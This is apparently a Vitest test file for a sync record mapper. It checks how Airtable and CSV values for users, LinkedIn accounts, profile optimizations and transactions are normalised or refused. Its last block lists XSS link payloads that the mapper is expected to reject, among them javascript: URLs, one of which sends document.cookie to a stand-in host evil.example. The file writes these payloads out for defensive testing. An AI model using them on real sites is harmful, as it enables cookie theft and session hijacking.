import { describe, expect, it } from "vitest";
import {
  BUILT_IN_FIELD_MAP,
  type SyncTable,
  TABLE_COLUMNS,
} from "../../../../src/server/features/sync/field-map";
import {
  type MappedRecord,
  type MappedValue,
  mapRecord,
} from "../../../../src/server/features/sync/record-mapper";

function map(table: SyncTable, fields: Record<string, unknown>): MappedRecord {
  return mapRecord(table, BUILT_IN_FIELD_MAP.tables[table], TABLE_COLUMNS[table].required, {
    id: "rec00000000000001",
    fields,
  });
}

function values(table: SyncTable, fields: Record<string, unknown>): Record<string, MappedValue> {
  const result = map(table, fields);
  if (!result.ok) throw new Error(`expected the record to map, got: ${result.message}`);
  return result.values;
}

function problem(table: SyncTable, fields: Record<string, unknown>): string {
  const result = map(table, fields);
  if (result.ok) throw new Error("expected the record to be refused");
  return result.message;
}

const account = (fields: Record<string, unknown>) => ({ UID: "uid-1", "Account Type": "lite", ...fields });

describe("mapRecord: users", () => {
  it("maps Airtable values, taking a lookup's value and an attachment's url", () => {
    const v = values("users", {
      UID: ["uid-1"],
      Email: "ann@example.com",
      Name: "  Ann Example  ",
      "Profile Image URL": [{ url: "https://cdn.example.com/ann.png", filename: "ann.png" }],
    });
    expect(v).toEqual({
      uid: "uid-1",
      email: "ann@example.com",
      name: "Ann Example",
      username: null,
      profileImageUrl: "https://cdn.example.com/ann.png",
      onboardingUrl: null,
      optimizationUrl: null,
    });
  });

  it("ignores fields of the record that the map does not name", () => {
    const v = values("users", { UID: "uid-1", Email: "a@example.com", Name: "A", Extra: "x", uid: "nope" });
    const read = Object.keys(BUILT_IN_FIELD_MAP.tables.users.fields).filter((c) => c !== "portalLoginClosed");
    expect(Object.keys(v).sort()).toEqual(read.sort());
    expect(v.uid).toBe("uid-1");
  });

  it("skips the field the portal only writes, whatever the base holds in it", () => {
    const v = values("users", { UID: "uid-1", Email: "a@example.com", Name: "A", "Portal login closed": {} });
    expect(v).not.toHaveProperty("portalLoginClosed");
  });

  it("reports a missing required field by its field name", () => {
    expect(problem("users", { UID: "uid-1", Name: "A" })).toBe("Email: is required");
  });

  it("counts an empty CSV cell, a blank text and an empty lookup as missing", () => {
    expect(problem("users", { UID: "", Email: "a@example.com", Name: "A" })).toBe("UID: is required");
    expect(problem("users", { UID: "   ", Email: "a@example.com", Name: "A" })).toBe("UID: is required");
    expect(problem("users", { UID: [], Email: "a@example.com", Name: "A" })).toBe("UID: is required");
  });

  it("refuses an object that is neither text nor an attachment", () => {
    expect(problem("users", { UID: "uid-1", Email: "a@example.com", Name: { first: "A" } })).toBe(
      "Name: is not text",
    );
  });
});

describe("mapRecord: LinkedIn accounts", () => {
  it("maps Airtable JSON values", () => {
    const v = values("linkedinAccounts", {
      UID: ["uid-1"],
      "Account Type": "Sales Navigator",
      Premium: true,
      // Verified absent: Airtable leaves unchecked boxes out.
      Optimized: false,
      Connections: 1234,
      Followers: 56.6,
      "Proxy Port": 8080,
      Created: "2026-01-05T10:15:00.000Z",
      "2FA Recovery Codes": "aaaa-1111\nbbbb-2222",
    });
    expect(v).toMatchObject({
      uid: "uid-1",
      accountType: "navigator",
      isPremium: true,
      isVerified: null,
      isOptimized: false,
      connectionsCount: 1234,
      followers: 57,
      proxyPort: "8080",
      createdAt: new Date("2026-01-05T10:15:00.000Z"),
      twoFaRecoveryCodes: ["aaaa-1111", "bbbb-2222"],
      lastModified: null,
    });
  });

  it("takes the first element of a lookup array for a number or a date", () => {
    const v = values(
      "linkedinAccounts",
      account({ Connections: [42, 7], Created: ["2026-02-01T00:00:00Z"] }),
    );
    expect(v.connectionsCount).toBe(42);
    expect(v.createdAt).toEqual(new Date("2026-02-01T00:00:00Z"));
  });

  it("maps CSV text values", () => {
    const v = values("linkedinAccounts", {
      UID: "uid-1",
      "Account Type": "LITE",
      Premium: "checked",
      Verified: "",
      Optimized: "No",
      Connections: "1,234",
      Followers: " 2 500 ",
      Created: "2026-01-05",
      "Last Modified": "2026-03-01T09:30:00.000Z",
    });
    expect(v).toMatchObject({
      accountType: "lite",
      isPremium: true,
      isVerified: null,
      isOptimized: false,
      connectionsCount: 1234,
      followers: 2500,
      createdAt: new Date("2026-01-05T00:00:00.000Z"),
      lastModified: new Date("2026-03-01T09:30:00.000Z"),
    });
  });

  it.each([
    ["true", true],
    ["Yes", true],
    ["1", true],
    ["x", true],
    ["✓", true],
    ["false", false],
    ["unchecked", false],
    ["0", false],
  ])("reads the checkbox text %j as %s", (text, expected) => {
    expect(values("linkedinAccounts", account({ Premium: text })).isPremium).toBe(expected);
  });

  it.each([
    ["Sales Navigator", "navigator"],
    ["sales   navigator", "navigator"],
    ["salesnav", "navigator"],
    ["SALES_NAVIGATOR", "navigator"],
    ["Navigator", "navigator"],
    ["LITE", "lite"],
    [" Plus ", "plus"],
    ["exec", "exec"],
  ])("normalises the account type %j to %j", (text, expected) => {
    expect(values("linkedinAccounts", account({ "Account Type": text })).accountType).toBe(expected);
  });

  it("refuses an unknown account type, naming the field", () => {
    expect(problem("linkedinAccounts", account({ "Account Type": "gold" }))).toBe(
      'Account Type: must be lite, plus, exec or navigator (got "gold")',
    );
  });

  it("requires the account type", () => {
    expect(problem("linkedinAccounts", { UID: "uid-1" })).toBe("Account Type: is required");
    expect(problem("linkedinAccounts", { UID: "uid-1", "Account Type": " " })).toBe(
      "Account Type: is required",
    );
  });

  it("splits recovery codes on newlines, commas and semicolons", () => {
    const v = values(
      "linkedinAccounts",
      account({ "2FA Recovery Codes": "one\r\ntwo, three;four\n\n ;five " }),
    );
    expect(v.twoFaRecoveryCodes).toEqual(["one", "two", "three", "four", "five"]);
  });

  it("keeps a list of recovery codes given as an array", () => {
    const v = values("linkedinAccounts", account({ "2FA Recovery Codes": [" a ", "", "b"] }));
    expect(v.twoFaRecoveryCodes).toEqual(["a", "b"]);
  });

  it("gives no recovery codes for an empty or separator-only cell", () => {
    expect(values("linkedinAccounts", account({ "2FA Recovery Codes": "" })).twoFaRecoveryCodes).toBeNull();
    expect(
      values("linkedinAccounts", account({ "2FA Recovery Codes": " ,;\n" })).twoFaRecoveryCodes,
    ).toBeNull();
  });

  it("reports a bad number with the operator's field name", () => {
    expect(problem("linkedinAccounts", account({ Connections: "lots" }))).toBe(
      'Connections: must be a number (got "lots")',
    );
    expect(problem("linkedinAccounts", account({ Followers: "12abc" }))).toBe(
      'Followers: must be a number (got "12abc")',
    );
  });

  it("refuses a number that is not finite", () => {
    expect(problem("linkedinAccounts", account({ Connections: Number.POSITIVE_INFINITY }))).toBe(
      "Connections: must be a number",
    );
  });

  it("refuses a number as text too large for an integer column", () => {
    expect(problem("linkedinAccounts", account({ Connections: "3,000,000,000" }))).toBe(
      "Connections: is too large",
    );
  });

  // The columns are PostgreSQL integers: a value past 2^31 - 1 must be refused here, as it is for
  // text, rather than reach the database. Airtable sends number fields as JSON numbers.
  it("refuses a JSON number too large for an integer column", () => {
    expect(map("linkedinAccounts", account({ Connections: 3_000_000_000 }))).toEqual({
      ok: false,
      message: "Connections: is too large",
    });
  });

  it("reports a bad date with the operator's field name", () => {
    expect(problem("linkedinAccounts", account({ Created: "soon" }))).toBe(
      'Created: must be a date (got "soon")',
    );
    // JavaScript's Date would read this as 2001-01-01; only ISO 8601 dates are taken.
    expect(problem("linkedinAccounts", account({ Created: "1" }))).toBe('Created: must be a date (got "1")');
  });

  it("reports a bad checkbox with the operator's field name", () => {
    expect(problem("linkedinAccounts", account({ Verified: "maybe" }))).toBe(
      'Verified: must be a checkbox (got "maybe")',
    );
  });
});

describe("mapRecord: profile optimizations", () => {
  it("maps Airtable JSON values, joining several attachments' urls", () => {
    const v = values("profileOptimizations", {
      UID: ["uid-1"],
      "Form Submission Date": "2026-01-05",
      "Profiles To Optimize": 3,
      "Optimization Files": [{ url: "https://f.example.com/1.pdf" }, { url: "https://f.example.com/2.pdf" }],
      Skills: ["Sales", "Negotiation"],
      Status: "In progress",
    });
    expect(v).toMatchObject({
      uid: "uid-1",
      formSubmissionDate: new Date("2026-01-05T00:00:00.000Z"),
      profilesToOptimize: 3,
      optimizationFiles: "https://f.example.com/1.pdf, https://f.example.com/2.pdf",
      skills: "Sales, Negotiation",
      status: "In progress",
      createdAt: null,
    });
  });

  it("maps CSV text values", () => {
    const v = values("profileOptimizations", {
      UID: "uid-1",
      "Form Submission Date": "2026-01-05T08:00:00+02:00",
      "Profiles To Optimize": "2",
      Created: "",
    });
    expect(v.formSubmissionDate).toEqual(new Date("2026-01-05T06:00:00.000Z"));
    expect(v.profilesToOptimize).toBe(2);
    expect(v.createdAt).toBeNull();
  });

  it("reports a bad number and a missing UID by field name", () => {
    expect(problem("profileOptimizations", { UID: "uid-1", "Profiles To Optimize": "two" })).toBe(
      'Profiles To Optimize: must be a number (got "two")',
    );
    expect(problem("profileOptimizations", { "Form Name": "Intake" })).toBe("UID: is required");
  });
});

describe("mapRecord: transactions", () => {
  it("maps Airtable JSON values, keeping the amount as text", () => {
    const v = values("transactions", {
      UID: ["uid-1"],
      "Event ID": "evt_1",
      Amount: 49.99,
      Currency: "gbp",
      "Created Time": "2026-01-05T12:00:00.000Z",
    });
    expect(v).toMatchObject({
      uid: "uid-1",
      eventId: "evt_1",
      amountActual: "49.99",
      currency: "gbp",
      createdTime: new Date("2026-01-05T12:00:00.000Z"),
      discounts: null,
    });
  });

  it("maps CSV text values and reports a bad date by field name", () => {
    expect(values("transactions", { UID: "uid-1", "Created Time": "2026-01-05" }).createdTime).toEqual(
      new Date("2026-01-05T00:00:00.000Z"),
    );
    expect(problem("transactions", { UID: "uid-1", "Created Time": "not a date" })).toBe(
      'Created Time: must be a date (got "not a date")',
    );
  });
});

describe("mapRecord: control characters and links", () => {
  const customer = (fields: Record<string, unknown>) => ({
    UID: "uid-1",
    Email: "ann@example.com",
    Name: "Ann Example",
    ...fields,
  });

  it("refuses a record whose text holds a control character, naming the field and the character", () => {
    // U+0000 is what PostgreSQL refuses in text: written, it failed the page's whole write.
    expect(problem("linkedinAccounts", account({ Notes: "ok\u0000not ok" }))).toBe(
      "Notes: holds the control character U+0000",
    );
    expect(problem("users", customer({ Name: "Ann\u001b[31m" }))).toBe(
      "Name: holds the control character U+001B",
    );
    expect(problem("profileOptimizations", { "About Section": "bell\u0007" })).toMatch(
      /^About Section: holds the control character U\+0007$/,
    );
  });

  it("keeps tabs and line breaks, which notes and sections are written with", () => {
    expect(values("linkedinAccounts", account({ Notes: "one\ttwo\r\nthree\nfour" })).notes).toBe(
      "one\ttwo\r\nthree\nfour",
    );
  });

  it("takes http and https links, and an address typed without its scheme as https", () => {
    const v = values(
      "users",
      customer({
        "Onboarding URL": "https://onboarding.example.com/ann",
        "Optimization URL": "http://forms.example.com/x",
        "Profile Image URL": [{ url: "https://cdn.example.com/ann.png" }],
      }),
    );
    expect(v.onboardingUrl).toBe("https://onboarding.example.com/ann");
    expect(v.optimizationUrl).toBe("http://forms.example.com/x");
    expect(v.profileImageUrl).toBe("https://cdn.example.com/ann.png");
    expect(values("linkedinAccounts", account({ "Profile URL": "www.linkedin.com/in/ann" })).profileUrl).toBe(
      "https://www.linkedin.com/in/ann",
    );
  });

  it.each([
    ["users", "Onboarding URL", "javascript:alert(document.cookie)"],
    ["users", "Optimization URL", "JavaScript:alert(1)"],
    ["users", "Profile Image URL", "data:image/svg+xml,<svg onload=alert(1)>"],
    ["linkedinAccounts", "Profile URL", "javascript:fetch('//evil.example/'+document.cookie)"],
    ["profileOptimizations", "Profile URL", "vbscript:msgbox(1)"],
  ] as const)("refuses a %s record whose %s is %s", (table, field, link) => {
    const fields =
      table === "users"
        ? customer({ [field]: link })
        : table === "linkedinAccounts"
          ? account({ [field]: link })
          : { [field]: link };
    expect(problem(table, fields)).toMatch(
      new RegExp(`^${field}: must be a web address starting with https://`),
    );
  });
});
